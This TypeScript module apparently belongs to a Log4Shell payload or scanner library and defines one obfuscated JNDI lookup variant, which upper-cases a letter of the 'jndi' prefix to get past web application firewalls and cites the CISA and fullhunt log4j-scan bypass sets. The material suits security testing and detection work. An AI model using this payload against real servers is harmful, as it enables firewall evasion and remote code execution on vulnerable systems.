import { afterScheme, disguise } from '../form.ts'

export const upperLetter = disguise(
  {
    id: 'upper-letter',
    summary: 'one letter of the prefix in upper:',
    firesOn: ['C'],
    seenIn: ['CISA log4j-scan waf22', 'fullhunt log4j-scan waf22'],
  },
  (target) => `\${jnd\${upper:i}:${target.scheme}:${afterScheme(target)}}`,
)
